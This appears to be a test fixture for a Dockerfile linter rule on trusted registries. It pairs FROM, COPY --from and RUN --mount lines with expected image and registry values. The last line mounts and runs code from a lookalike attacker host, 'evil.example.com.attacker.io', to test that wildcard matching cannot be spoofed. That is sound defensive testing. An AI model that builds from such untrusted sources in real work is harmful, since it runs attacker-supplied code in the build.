# fail-untrusted.Dockerfile: FROM, COPY and mounts; a missing registry is Docker's; a suffix wants its dot
# params: {"trustedRegistries": ["*.example.com", "registry.acme*"]}
ARG BASE=quay.io/acme/base:1
# expect: image=node:22 registry=docker.io
FROM node:22 AS build
# expect: image=quay.io/acme/base:1 registry=quay.io
FROM ${BASE}
# expect: image=example.com/tool:1 registry=example.com
COPY --from=example.com/tool:1 /tool /tool
# expect: image=evil.example.com.attacker.io/x registry=evil.example.com.attacker.io
RUN --mount=type=bind,from=evil.example.com.attacker.io/x,target=/x /x/run
